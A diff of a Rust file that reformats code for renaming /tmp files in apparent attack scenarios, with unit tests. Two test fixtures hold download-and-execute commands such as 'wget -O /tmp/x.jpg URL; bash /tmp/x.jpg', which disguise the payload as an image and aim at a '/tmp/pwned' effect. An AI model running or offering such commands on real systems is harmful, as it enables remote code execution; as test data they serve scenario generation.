@@ -44,9 +44,7 @@ impl Random {
     }
 
     fn word(&mut self) -> String {
-        (0..6)
-            .map(|_| char::from(b'a' + u8::try_from(self.below(26)).unwrap_or(0)))
-            .collect()
+        (0..6).map(|_| char::from(b'a' + u8::try_from(self.below(26)).unwrap_or(0))).collect()
     }
 }
 
@@ -73,34 +71,26 @@ fn names(text: &str) -> BTreeSet<String> {
 
 /// Where `name` stands in `text` as a whole word.
 fn whole<'a>(text: &'a str, name: &'a str) -> impl Iterator<Item = usize> + 'a {
-    text.match_indices(name)
-        .map(|(at, _)| at)
-        .filter(move |at| {
-            let before = text[..*at].chars().next_back();
-            let after = &text[at + name.len()..];
-            let mut following = after.chars();
-            let ends = match following.next() {
-                // A full stop that ends a sentence is not part of the name.
-                Some('.') => !following.next().is_some_and(is_name),
-                Some(c) => !is_name(c),
-                None => true,
-            };
-            ends && !before.is_some_and(is_name)
-        })
+    text.match_indices(name).map(|(at, _)| at).filter(move |at| {
+        let before = text[..*at].chars().next_back();
+        let after = &text[at + name.len()..];
+        let mut following = after.chars();
+        let ends = match following.next() {
+            // A full stop that ends a sentence is not part of the name.
+            Some('.') => !following.next().is_some_and(is_name),
+            Some(c) => !is_name(c),
+            None => true,
+        };
+        ends && !before.is_some_and(is_name)
+    })
 }
 
 /// Gives every file directly below /tmp another name, where all mentions of it are spelt out.
 pub fn rename_files(scenario: &mut Scenario, random: &mut Random) {
-    let texts: Vec<String> = scenario
-        .texts_mut()
-        .iter()
-        .map(|text| (*text).clone())
-        .collect();
+    let texts: Vec<String> = scenario.texts_mut().iter().map(|text| (*text).clone()).collect();
     let all: BTreeSet<String> = texts.iter().flat_map(|text| names(text)).collect();
     for name in all {
-        let literal = texts
-            .iter()
-            .all(|text| whole(text, &name).all(|at| text[..at].ends_with("/tmp/")));
+        let literal = texts.iter().all(|text| whole(text, &name).all(|at| text[..at].ends_with("/tmp/")));
         if !literal {
             continue;
         }
@@ -143,16 +133,10 @@ mod tests {
 
     #[test]
     fn literal_names_change_together() {
-        let mut one = scenario(
-            "wget -O /tmp/x.jpg URL; bash /tmp/x.jpg; cat /tmp/x",
-            "/tmp/pwned",
-        );
+        let mut one = scenario("wget -O /tmp/x.jpg URL; bash /tmp/x.jpg; cat /tmp/x", "/tmp/pwned");
         rename_files(&mut one, &mut Random::new(7));
         assert!(!one.run.contains("x.jpg"));
-        let name: String = one.run["wget -O /tmp/".len()..]
-            .chars()
-            .take_while(|c| is_name(*c))
-            .collect();
+        let name: String = one.run["wget -O /tmp/".len()..].chars().take_while(|c| is_name(*c)).collect();
         assert!(name.len() == 10 && name.ends_with(".jpg"));
         assert_eq!(one.run.matches(&name).count(), 2);
         assert!(!one.effect.ends_with("pwned"));
@@ -160,10 +144,7 @@ mod tests {
 
     #[test]
     fn names_that_are_also_used_without_their_folder_stay() {
-        let mut one = scenario(
-            "cd /tmp; wget -O /tmp/x URL; ./x; cat /tmp/y$N /tmp/z*",
-            "/tmp/pwned",
-        );
+        let mut one = scenario("cd /tmp; wget -O /tmp/x URL; ./x; cat /tmp/y$N /tmp/z*", "/tmp/pwned");
         let before = one.run.clone();
         rename_files(&mut one, &mut Random::new(7));
         assert_eq!(one.run, before);
